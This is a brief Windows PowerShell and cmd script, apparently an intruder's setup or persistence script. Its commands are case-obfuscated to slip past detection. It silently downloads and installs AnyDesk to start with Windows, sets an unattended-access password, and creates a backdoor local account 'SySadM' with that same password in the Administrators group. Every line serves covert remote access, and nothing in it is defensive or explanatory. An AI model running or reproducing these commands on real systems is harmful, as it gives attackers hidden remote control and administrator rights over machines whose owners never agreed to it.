# iNiT 0314 V1
iNvO`kE-`WeBrEqUeSt -UrI 'https://download.anydesk.com/AnyDesk.exe' -OuTFiLE C:\pRoGrAmDaTa\anyDESK.ExE
CMd /c "C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent"
CmD /C "echo Winter#2025x | C:\ProgramData\AnyDesk\AnyDesk.exe --set-password"
NEt user SySadM WiNtEr#2025x /adD
nET lOcAlGrOuP aDmInIsTrAtOrS sYSAdm /aDd
